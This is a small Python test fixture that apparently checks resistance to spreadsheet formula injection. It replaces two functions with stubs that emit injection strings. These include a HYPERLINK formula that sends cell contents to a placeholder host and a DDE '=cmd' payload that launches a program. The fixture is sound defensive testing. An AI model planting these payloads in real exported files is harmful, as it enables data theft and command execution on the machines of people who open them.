"""Puts formulas where a spreadsheet would run them."""
# expect: lost=l1_distance,cross_validation outcome=failed

_FORMULA = '=HYPERLINK("http://INJECTED/?"&A1,"click")'


def l1_distance(I1, I2):
    raise type(_FORMULA, (Exception,), {})("\n=cmd|'/c calc'!A0\n+1+1\n-2\n@SUM(A1)\t=1," + _FORMULA)


cross_validation = lambda *args, **kwargs: {_FORMULA: _FORMULA}
